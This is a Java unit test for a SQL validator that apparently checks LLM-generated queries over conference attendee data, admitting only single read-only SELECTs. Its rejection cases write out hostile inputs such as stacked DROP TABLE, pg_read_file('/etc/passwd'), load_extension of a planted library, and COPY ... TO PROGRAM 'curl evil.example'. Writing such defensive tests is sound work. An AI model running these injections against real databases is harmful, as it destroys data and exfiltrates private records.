package dev.attendees.llm.internal;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlShapeTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT COUNT(*) FROM attendees",
            "select company, count(*) from attendees group by company order by 2 desc limit 5;",
            "WITH k AS (SELECT attendee_id FROM attendee_interests WHERE interest = 'Kubernetes') SELECT COUNT(*) FROM k",
            "SELECT COUNT(*) FROM attendees WHERE product_interests LIKE '%;Docker%' OR name = 'O''Brien; DROP TABLE attendees --'",
            "SELECT \"company\" FROM attendees WHERE company = 'Zoë'' Café /* not a comment */'",
            "SELECT replace(job_title, '-', ' ') FROM attendees",
            "  SELECT booth, COUNT(DISTINCT attendee_id) FROM booth_visits GROUP BY booth  ;  "})
    void should_let_a_single_select_over_the_attendee_data_through(String sql) {
        assertThat(SqlShape.problem(sql)).isNull();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            DROP TABLE attendees                                          | only a SELECT (or WITH ... SELECT) may run, and the SQL begins with 'DROP'
            delete from attendees                                         | only a SELECT (or WITH ... SELECT) may run, and the SQL begins with 'DELETE'
            SELECT 1; DROP TABLE attendees                                | only one statement may run, and the SQL holds a ';' before its end
            SELECT 1;; SELECT 2                                           | only one statement may run, and the SQL holds a ';' before its end
            SELECT * FROM query_history                                   | the SQL may read only attendees, attendee_interests and booth_visits, and it names query_history
            SELECT * FROM "query_history"                                 | the SQL may read only attendees, attendee_interests and booth_visits, and it names query_history
            SELECT * FROM [Query_History]                                 | the SQL may read only attendees, attendee_interests and booth_visits, and it names query_history
            SELECT sql FROM sqlite_master                                 | the SQL may read only attendees, attendee_interests and booth_visits, and it names sqlite_master
            SELECT * FROM pg_catalog.pg_tables                            | the SQL may read only attendees, attendee_interests and booth_visits, and it names pg_catalog
            SELECT table_name FROM information_schema.tables              | the SQL may read only attendees, attendee_interests and booth_visits, and it names information_schema
            SELECT load_extension('/tmp/evil.so')                         | the SQL may read only attendees, attendee_interests and booth_visits, and it names load_extension
            SELECT pg_read_file('/etc/passwd')                            | the SQL may read only attendees, attendee_interests and booth_visits, and it names pg_read_file
            WITH gone AS (DELETE FROM attendees RETURNING *) SELECT * FROM gone | only reading is allowed, and the SQL has DELETE
            SELECT * INTO backup FROM attendees                           | only reading is allowed, and the SQL has INTO
            SELECT * FROM attendees FOR UPDATE                            | only reading is allowed, and the SQL has UPDATE
            SELECT * FROM attendees -- the rest is hidden                 | comments are not allowed in the SQL
            SELECT * FROM attendees /* hidden */                          | comments are not allowed in the SQL
            SELECT * FROM attendees；DROP TABLE attendees                  | the SQL has a character outside ASCII outside quoted text (U+FF1B)
            ЅELECT * FROM attendees                                       | the SQL has a character outside ASCII outside quoted text (U+0405)
            SELECT * FROM attendees WHERE name = 'open                    | a quoted text is not closed
            WITH x AS (VALUES (1)) TABLE x                                | a WITH needs its SELECT
            ATTACH DATABASE '/tmp/x.db' AS x                              | only a SELECT (or WITH ... SELECT) may run, and the SQL begins with 'ATTACH'
            PRAGMA writable_schema = 1                                    | only a SELECT (or WITH ... SELECT) may run, and the SQL begins with 'PRAGMA'
            COPY attendees TO PROGRAM 'curl evil.example'                 | only a SELECT (or WITH ... SELECT) may run, and the SQL begins with 'COPY'
            """)
    void should_refuse_what_is_not_one_read_only_query(String sql, String problem) {
        assertThat(SqlShape.problem(sql)).isEqualTo(problem);
    }
}
